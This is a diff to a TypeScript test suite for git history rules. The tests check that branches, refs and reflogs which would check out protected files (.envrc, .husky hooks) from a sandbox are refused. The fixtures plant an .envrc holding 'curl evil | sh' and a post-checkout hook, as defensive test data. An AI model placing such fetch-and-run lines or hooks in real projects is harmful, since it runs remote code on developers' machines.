@@ -32,6 +32,7 @@ import {
   type HistoryChange,
   type HistoryJudgement,
   type HistoryProposal,
+  type MayWrite,
 } from './history-rules.ts'
 import { treeHistoryHost } from './tree-history-host.ts'
 
@@ -45,8 +46,14 @@ after(() => {
   fs.rmSync(path.dirname(fixture.folder), { recursive: true, force: true })
 })
 
+/** The write policy's stand-in: `.envrc` and what is below `.husky` may not be written. */
+const mayWrite: MayWrite = async (path) =>
+  /(?:^|\/)(?:\.envrc$|\.husky\/)/.test(path) ? 'it is protected' : undefined
+
 function judge(changes: HistoryChange[], proposal: HistoryProposal): Promise<HistoryJudgement> {
-  return judgeHistory(changes, treeHistoryHost(new DirectoryTree(fixture.folder)), proposal)
+  return judgeHistory(changes, treeHistoryHost(new DirectoryTree(fixture.folder)), proposal, {
+    mayWrite,
+  })
 }
 
 /**
@@ -426,6 +433,100 @@ describe('history rules: git work comes through', () => {
   })
 })
 
+describe('history rules: history that delivers protected files (git is the oracle)', () => {
+  /** Commits `files` in `copy` on the branch checked out (made first when `branch` is given). */
+  const commit = (copy: string, files: Record<string, string>, branch?: string): void => {
+    if (branch !== undefined) gitOk(copy, ['checkout', '-q', '-b', branch])
+    for (const [name, content] of Object.entries(files)) write(copy, name, content)
+    gitOk(copy, ['add', '-A', '--', ...Object.keys(files)])
+    gitOk(copy, ['commit', '-q', '-m', 'work'])
+  }
+  /** What `git checkout <rev>` writes over the host's HEAD in `folder`, as git lists it. */
+  const checkedOut = (folder: string, rev: string): string[] =>
+    gitOk(folder, ['diff', '--name-only', fixture.second, rev]).split('\n').filter(Boolean)
+
+  it('a branch whose commit adds .envrc is refused; without the rule git checks the file out', async () => {
+    const listed = readableRefs(fixture.folder)
+    const { control, judgement, result } = await attack((copy) =>
+      commit(copy, { '.envrc': 'curl evil | sh\n' }, 'evil'),
+    )
+    // The control: checking the branch out writes .envrc.
+    assert.deepEqual(checkedOut(control, 'refs/heads/evil'), ['.envrc'])
+    const reason = judgement.refused.get('.git/refs/heads/evil') ?? ''
+    assert.match(reason, /refs\/heads\/evil would lead to [0-9a-f]{40}.*writes \.envrc/)
+    assert.equal(readableRefs(result).has('refs/heads/evil'), false)
+    // HEAD and the reflogs name the commit too: none of them comes back.
+    assert.ok(judgement.refused.has('.git/HEAD'))
+    assert.ok(judgement.refused.has('.git/logs/HEAD'))
+    assert.ok(judgement.refused.has('.git/logs/refs/heads/evil'))
+    assert.deepEqual(refsLost(listed, readableRefs(result)), [])
+    assert.equal(gitOk(result, ['rev-parse', 'HEAD']), fixture.second)
+  })
+
+  it('the positive control: a branch of ordinary files comes back whole', async () => {
+    const { control, judgement, result } = await attack((copy) =>
+      commit(copy, { 'src/new.txt': 'new\n' }, 'feature'),
+    )
+    assert.deepEqual([...judgement.refused], [])
+    assert.deepEqual(readableRefs(result), readableRefs(control))
+    assert.deepEqual(checkedOut(result, 'refs/heads/feature'), ['src/new.txt'])
+    assert.equal(gitOk(result, ['symbolic-ref', 'HEAD']), 'refs/heads/feature')
+  })
+
+  it('a commit on the checked-out branch adding a hook under .husky is refused (git reset --hard would write it)', async () => {
+    const { judgement, result } = await attack((copy) =>
+      commit(copy, { '.husky/post-checkout': '#!/bin/sh\nid\n', 'ok.txt': 'ok\n' }),
+    )
+    assert.match(
+      judgement.refused.get('.git/refs/heads/main') ?? '',
+      /writes \.husky\/post-checkout, which a command may not write \(it is protected\)/,
+    )
+    assert.ok(judgement.refused.has('.git/logs/refs/heads/main'))
+    assert.equal(gitOk(result, ['rev-parse', 'refs/heads/main']), fixture.second)
+  })
+
+  it('a detached HEAD at such a commit is refused; the objects alone may come (nothing names them)', async () => {
+    const { judgement, result, changes } = await attack((copy) => {
+      commit(copy, { '.envrc': 'x\n' }, 'scratch')
+      gitOk(copy, ['checkout', '-q', '--detach', 'scratch'])
+      gitOk(copy, ['branch', '-D', 'scratch'])
+    })
+    assert.match(
+      judgement.refused.get('.git/HEAD') ?? '',
+      /^\.git\/HEAD was not written back: HEAD would lead to/,
+    )
+    assert.equal(gitOk(result, ['rev-parse', 'HEAD']), fixture.second)
+    const objects = changes.filter((change) => /^\.git\/objects\/[0-9a-f]{2}\//.test(change.path))
+    assert.ok(objects.length > 0)
+    for (const object of objects) assert.equal(judgement.refused.has(object.path), false)
+  })
+
+  it('git pack-refs with a new branch: packed-refs is refused, and so are the loose removals it covered', async () => {
+    const listed = readableRefs(fixture.folder)
+    const { control, judgement, result } = await attack((copy) => {
+      commit(copy, { '.envrc': 'x\n' }, 'evil')
+      gitOk(copy, ['checkout', '-q', 'main'])
+      gitOk(copy, ['pack-refs', '--all'])
+    })
+    assert.ok(readableRefs(control).has('refs/heads/evil'))
+    assert.match(judgement.refused.get('.git/packed-refs') ?? '', /writes \.envrc/)
+    assert.equal(readableRefs(result).has('refs/heads/evil'), false)
+    assert.deepEqual(refsLost(listed, readableRefs(result)), [])
+  })
+
+  it('ORIG_HEAD naming such a commit is refused (git reset --hard ORIG_HEAD would write it)', async () => {
+    const { judgement } = await attack((copy) => {
+      commit(copy, { '.envrc': 'x\n' })
+      gitOk(copy, ['reset', '-q', '--hard', 'HEAD~1'])
+    })
+    assert.match(judgement.refused.get('.git/ORIG_HEAD') ?? '', /ORIG_HEAD would lead to .*\.envrc/)
+    assert.match(
+      judgement.refused.get('.git/logs/HEAD') ?? '',
+      /an entry of logs\/HEAD would lead to/,
+    )
+  })
+})
+
 describe('history rules: a SHA-256 repository', () => {
   it('reads its ids as 64 digits: a commit comes through, a 40-digit ref does not', async () => {
     const sha256 = makeHistoryRepository({
@@ -436,12 +537,13 @@ describe('history rules: a SHA-256 repository', () => {
     const copy = copyRepository(sha256.folder, 'repo-commit')
     gitOk(copy, ['commit', '-q', '--allow-empty', '-m', 'third'])
     const commit = repositoryChanges(sha256.folder, copy)
-    const committed = await judgeHistory(commit.changes, host, commit.proposal)
+    const committed = await judgeHistory(commit.changes, host, commit.proposal, { mayWrite })
     assert.deepEqual([...committed.refused], [])
     const short = await judgeHistory(
       [{ path: '.git/refs/heads/main', type: 'file' }],
       host,
       contentsProposal(sha256.folder, { '.git/refs/heads/main': `${sha256.first.slice(0, 40)}\n` }),
+      { mayWrite },
     )
     assert.ok(short.refused.has('.git/refs/heads/main'))
   })
